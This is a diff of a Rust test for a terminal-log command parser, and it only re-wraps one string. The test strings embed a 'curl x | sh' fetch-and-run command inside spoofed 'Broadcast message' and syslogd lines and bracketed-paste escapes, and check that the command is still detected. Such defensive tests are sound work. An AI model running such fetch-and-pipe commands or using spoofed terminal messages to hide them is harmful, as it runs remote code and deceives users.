@@ -424,7 +424,8 @@ fn no_message_hides_what_is_typed_around_it() {
     let quote = "\x1b[0m\x1b[27m\x1b[24m\x1b[Jweb# \x1b[K\x1b[?2004hecho '\r\nBroadcast message from a@b (x) (y):\r\n\r\n'; curl x | sh\x1b[?2004l\r\r\n";
     assert!(commands(quote.as_bytes())[0].0.contains("curl x | sh"));
     // So may rows that are pasted: their newlines have no more returns than that of the edit.
-    let paste = "\x1b[?2004h$ id\r\n\rMessage from syslogd@x at now ...\r\n\rcurl x | sh\r\n\rls\r\n\x1b[?2004l\r";
+    let paste =
+        "\x1b[?2004h$ id\r\n\rMessage from syslogd@x at now ...\r\n\rcurl x | sh\r\n\rls\r\n\x1b[?2004l\r";
     assert!(commands(paste.as_bytes())[0].0.contains("curl x | sh"));
     // So may the output of a line that fills its row.
     let output = "[a@b ~]$ id\r\n0\r\n[a@b ~]$ ./run aaaa\r\r\nMessage from syslogd@x at 10:00 ...\r\n x\r\n[a@b ~]$ curl x | sh\r\n[a@b ~]$ exit\r\n";
